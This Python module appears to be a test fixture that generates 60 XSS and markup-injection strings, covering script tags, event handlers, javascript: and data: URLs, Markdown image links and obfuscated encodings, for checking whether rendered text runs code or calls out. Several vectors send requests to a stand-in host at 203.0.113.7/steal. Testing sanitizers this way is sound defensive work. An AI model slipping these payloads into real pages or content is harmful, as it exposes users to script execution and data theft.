"""Texts that try to run, to load something from elsewhere, or to look like the page's own."""

from __future__ import annotations

_RUN = "top.hacked=1"
_AWAY = "http://203.0.113.7/steal"
_MARKUP = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<a href=javascript:{run}>free</a>",
    "<math><mtext></p><script>{run}</script>",
    '"><script>{run}</script>',
    "'-{run}-'",
    "</p></article><script>{run}</script>",
    "</script><script>{run}</script>",
    "<template><script>{run}</script></template>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='data:text/html,<script>{run}</script>'>",
    "<base href='{away}/'>",
    "<link rel=stylesheet href='{away}'>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<img src='{away}'>",
    "<style>@import '{away}';</style>",
    "<form action='{away}'><button>Like</button></form>",
    "<audio src='{away}' autoplay>",
    "<div style='background:url({away})'>x</div>",
    "<picture><source srcset='{away}'></picture>",
    "<svg><image href='{away}'/></svg>",
    "<table background='{away}'>",
)
_MARKDOWN = (
    "![x]({away})",
    "[free]({away})",
    "[free](javascript:{run})",
    "![x](data:text/html,<script>{run}</script>)",
    "<{away}>",
    "[x]: {away}\n![x][x]",
    "**bold** ![p]({away}?q=secret)",
    "`<script>{run}</script>`",
    "# <img src=x onerror={run}>",
    "- [ ] <img src={away}>",
    "```html\n<script>{run}</script>\n```",
    "[click](data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=)",
    "![\u202egpj.x]({away})",
    "[\u200b](javascript:{run})",
    "<details><summary>x</summary>![x]({away})</details>",
)
_ESCAPED = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<ScRiPt>{run}</sCrIpT>",
    "<<script>script>{run}</script>",
    "<img\tsrc=x\nonerror={run}>",
    "<img/src=x/onerror={run}>",
    "java\nscript:{run}",
    "{{constructor.constructor('{run}')()}}",
    "${{{run}}}",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
)


def payloads() -> list[str]:
    """60 of them; one that runs sets `top.hacked`, one that phones calls 203.0.113.7."""
    texts = (*_MARKUP, *_MARKDOWN, *_ESCAPED)
    return [text.replace("{run}", _RUN).replace("{away}", _AWAY) for text in texts]
